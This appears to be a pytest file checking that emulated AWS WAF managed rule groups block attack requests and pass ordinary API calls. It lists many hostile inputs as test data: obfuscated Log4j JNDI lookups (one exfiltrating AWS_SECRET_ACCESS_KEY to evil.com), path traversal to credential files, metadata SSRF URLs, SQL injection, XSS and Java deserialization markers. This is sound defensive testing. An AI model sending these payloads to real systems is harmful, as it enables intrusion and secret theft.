"""Managed groups against AWS's published examples, and against ordinary calls."""

import json
from urllib.parse import quote

import pytest

from portcullis.gateway.waf.managed import GROUPS
from tests.portcullis.gateway.waf.written import COMMON, INPUTS, SQL, group_rule, managed

AGENT = (("User-Agent", "curl/8"),)


@pytest.mark.parametrize(
    ("group", "changes", "expected"),
    [
        (COMMON, {"headers": ()}, "NoUserAgent_HEADER"),
        (COMMON, {"headers": (("User-Agent", "sqlmap/1.7"),)}, "UserAgent_BadBots_HEADER"),
        (COMMON, {"target": "/?q=" + "x" * 2047}, "SizeRestrictions_QUERYSTRING"),
        (COMMON, {"body": b"x" * 8193}, "SizeRestrictions_BODY"),
        (COMMON, {"target": "/" + "x" * 1024}, "SizeRestrictions_URIPATH"),
        (COMMON, {"target": "/?u=http://169.254.169.254/"}, "EC2MetaDataSSRF_QUERYARGUMENTS"),
        (COMMON, {"target": "/a/%2e%2e/b"}, "GenericLFI_URIPATH"),
        (COMMON, {"target": "/?f=../../etc/passwd"}, "GenericLFI_QUERYARGUMENTS"),
        (COMMON, {"target": "/db.sql"}, "RestrictedExtensions_URIPATH"),
        (COMMON, {"body": b"see ftp://192.0.2.1/x"}, "GenericRFI_BODY"),
        (COMMON, {"body": b"<script>alert(1)</script>"}, "CrossSiteScripting_BODY"),
        (INPUTS, {"headers": (*AGENT, ("X", "${jndi:ldap://x}"))}, "Log4JRCE_HEADER"),
        (INPUTS, {"target": "/?x=${${lower:j}ndi:x}"}, "Log4JRCE_QUERYSTRING"),
        (INPUTS, {"method": "PROPFIND"}, "PROPFIND_METHOD"),
        (INPUTS, {"target": "/.git/config"}, "ExploitablePaths_URIPATH"),
        (SQL, {"target": "/?id=1%27%20or%20%271%27=%271"}, "SQLi_QUERYARGUMENTS"),
        (SQL, {"body": b"x' union all select 1"}, "SQLi_BODY"),
        ("AWSManagedRulesLinuxRuleSet", {"target": "/proc/version"}, "LFI_URIPATH"),
        (
            "AWSManagedRulesUnixRuleSet",
            {"target": "/?x=echo%20$HOME"},
            "UNIXShellCommandsVariables_QUERYARGUMENTS",
        ),
        (
            "AWSManagedRulesAdminProtectionRuleSet",
            {"target": "/sqlmanager"},
            "AdminProtection_URIPATH",
        ),
    ],
)
def test_a_managed_group_finds_aws_published_examples(
    web_acl, request_of, group, changes, expected
):
    acl = web_acl(group_rule("managed", 1, managed(group)))
    verdict = acl.evaluate(request_of(**{"headers": AGENT, **changes}))
    assert (verdict.allowed, verdict.rule) == (False, f"managed/{expected}")
    assert verdict.labels[-1].startswith("awswaf:managed:aws:")


@pytest.mark.parametrize(
    "changes",
    [
        {"target": "/"},
        {"target": "/pets?type=dog&page=2"},
        {"target": "/pets/42"},
        {"target": "/.well-known/jwks.json"},
        {"method": "POST", "body": b'{"type": "O\'Brien\'s dog & cat", "price": 12.5}'},
    ],
)
def test_ordinary_calls_pass_every_managed_group(web_acl, request_of, changes):
    acl = web_acl(*(group_rule(g, n, managed(g)) for n, g in enumerate(GROUPS)))
    verdict = acl.evaluate(request_of(**{"headers": AGENT, **changes}))
    assert (verdict.allowed, verdict.rule) == (True, "Default_Action")


@pytest.mark.parametrize("group", list(GROUPS.values()), ids=list(GROUPS))
def test_a_rule_matches_something_or_says_why_not(group):
    assert all((rule.statement is None) is bool(rule.gap) for rule in group.rules)
    names = [rule.name for rule in group.rules]
    assert len(set(names)) == len(names)


LOOKUPS = [
    "${jndi:ldap://x/a}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
    "${${lower:j}ndi:ldap://x/a}",
    "${jndi:dns://x}",
    "${jndi:rmi://x/a}",
    "${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//x/a}",
    "${${lower:jndi}:${lower:rmi}://x}",
    "${j${lower:n}di:ldap://x}",
    "${j${::-n}di:ldap://x}",
    "${${upper:j}ndi:ldap://x}",
    "${${sys:x:-j}ndi:ldap://x}",
    "${jndi${nagli:-:}ldap:${::-/}/x}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
    "${${::-${::-$${::-j}}}ndi:ldap://x}",
    "%24%7Bjndi:ldap://x%7D",
    "%2524%257Bjndi:ldap://x%257D",
    "$\\u007bjndi:ldap://x}",
    "$\\u007B\\u006Andi:ldap://x}",
    "$&lbrace;jndi:ldap://x}",
    "$&LCUB;jndi:ldap://x}",
    "&#x24;&#000000000000000000123;jndi:ldap://x}",
    "%24%5Cu007Bjndi:ldap://x%7D",
    "\\u002524%7Bjndi:ldap://x%7D",
    "${jndi:${lower:l}${lower:d}a${lower:p}://x}",
    "${jNdI:LDAPS://x}",
    "${${a:b:c:-j}ndi:ldap://x}",
    "${jndi:iiop://x/a}",
    "${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://x}",
    "${${lower:j}ndi:ldap://x}",
    "${jnd${upper:i}:ldap://x}",
    "${jnd${sys:SYS_NAME:-i}:ldap://x}",
    "${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap://x}",
    "${j${k8s:k5:-ND}i:ldap://x}",
    "${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://x}",
    "${jndi:ldap://127.0.0.1#evil.com/a}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.com}",
    "${jndi:ldap://${hostName}.evil.com/a}",
    "\\u0024\\u007bjndi:ldap://x\\u007d",
    "\\x24\\x7bjndi:ldap://x}",
    "&#36;&#123;jndi:ldap://x}",
    "&dollar;&lbrace;jndi:ldap://x}",
    "${ jndi:ldap://x}",
    "${	jndi:ldap://x}",
    "${jndi :ldap://x}",
    "${jndi:\\ldap://x}",
    "$${jndi:ldap://x}",
    "${${what:ever:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}:ldap://x}",
    "${base64:JHtqbmRpOmxkYXA6Ly94fQ==}",
    "${${lower:${lower:jndi}}:${lower:rmi}://x}",
    "${jnd${upper:\u0131}:ldap://x}",
]


@pytest.mark.parametrize("text", LOOKUPS)
def test_a_lookup_of_log4j_is_found_however_it_is_nested(web_acl, request_of, text):
    acl = web_acl(group_rule("managed", 1, managed(INPUTS)))
    for changes in ({"headers": (*AGENT, ("X", text))}, {"body": text.encode()}):
        verdict = acl.evaluate(request_of(**{"headers": AGENT, **changes}))
        assert verdict.rule.startswith("managed/Log4JRCE_")


@pytest.mark.parametrize("text", ["${name}", "${user.name:-Bob}", "$ {jndi}", "a ${b} and ${c}"])
def test_a_plain_reference_is_no_lookup(web_acl, request_of, text):
    acl = web_acl(group_rule("managed", 1, managed(INPUTS)))
    assert acl.evaluate(request_of(headers=AGENT, body=text.encode())).allowed


PATHS = [
    "../../etc/passwd",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "..;/admin",
    "/root/.ssh/id_rsa",
    "/proc/self/environ",
    "..\\..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252fetc%252fpasswd",
    "..%c0%af..%c0%afetc/passwd",
    "%u002e%u002e/etc/passwd",
    "/etc/passwd%00.png",
    "/etc/./passwd",
    "/etc//passwd",
    "/proc/1/environ",
    "/var/log/../../etc/passwd",
    "file:///var/x",
    "php://filter/convert.base64-encode/resource=index.php",
    "phar://x",
    "expect://id",
    "data://text/plain;base64,PD9waHA=",
    "C:\\windows\\win.ini",
    "/..;/..;/etc",
    "/home/x/.aws/credentials",
    "http://10.1.2.3/shell.txt",
    "ftp://192.0.2.7/x",
    "http://169.254.169.254/latest/meta-data/",
    "http://[fd00:ec2::254]/latest",
    "http://2852039166/latest/meta-data/",
    "http://[::ffff:169.254.169.254]/",
]


@pytest.mark.parametrize("text", PATHS)
def test_a_path_to_a_file_of_the_system_is_found(web_acl, request_of, text):
    acl = web_acl(group_rule("managed", 1, managed(COMMON)))
    assert not acl.evaluate(request_of(headers=AGENT, body=text.encode())).allowed


@pytest.mark.parametrize(
    "text", ["foo../1234", "see foo.../1234", "and so on.. / end", "/etc", "/process/1/"]
)
def test_a_path_of_another_kind_passes(web_acl, request_of, text):
    acl = web_acl(group_rule("managed", 1, managed(COMMON)))
    assert acl.evaluate(request_of(headers=AGENT, body=text.encode())).allowed


ATTACKS = {
    "' or 1=1--": "SQLi_BODY",
    "<script>alert(1)</script>": "CrossSiteScripting_BODY",
    "${jndi:ldap://x/a}": "Log4JRCE_BODY",
    "../../etc/passwd": "GenericLFI_BODY",
}
ENCODINGS = {
    "URL": lambda text: quote(text).encode(),
    "URL twice": lambda text: quote(quote(text)).encode(),
    "HTML entities": lambda text: "".join(f"&#x{ord(c):x};" for c in text).encode(),
    "entities of URL escapes": lambda text: quote(text).replace("%", "&#37;").encode(),
    "percent u": lambda text: "".join(f"%u{ord(c):04x}" for c in text).encode(),
    "escapes of JSON": lambda text: (
        '{"type": "' + "".join(f"\\u{ord(c):04x}" for c in text) + '"}'
    ).encode(),
    **{
        name: lambda text, name=name: json.dumps({"type": text}).encode(name)
        for name in ("utf-8-sig", "utf-16", "utf-16-le", "utf-16-be")
    },
    "utf-16 text": lambda text: text.encode("utf-16"),
}


@pytest.mark.parametrize("text", ATTACKS)
@pytest.mark.parametrize("encoding", ENCODINGS)
def test_an_attack_is_found_in_every_encoding(web_acl, request_of, text, encoding):
    acl = web_acl(*(group_rule(g, n, managed(g)) for n, g in enumerate((COMMON, INPUTS, SQL))))
    body = ENCODINGS[encoding](text)
    rule = acl.evaluate(request_of(method="POST", headers=AGENT, body=body)).rule
    assert rule.endswith(f"/{ATTACKS[text]}")


@pytest.mark.parametrize(
    "body",
    [
        b"\xac\xed\x00\x05sr",
        b'{"a": "rO0ABXNyABFqYXZhLnV0aWw"}',
        b"%{(#_memberAccess=@ognl.OgnlContext@X)}",
    ],
)
def test_a_serialized_object_of_java_is_found(web_acl, request_of, body):
    acl = web_acl(group_rule("managed", 1, managed(INPUTS)))
    verdict = acl.evaluate(request_of(headers=AGENT, body=body))
    assert verdict.rule == "managed/JavaDeserializationRCE_BODY"
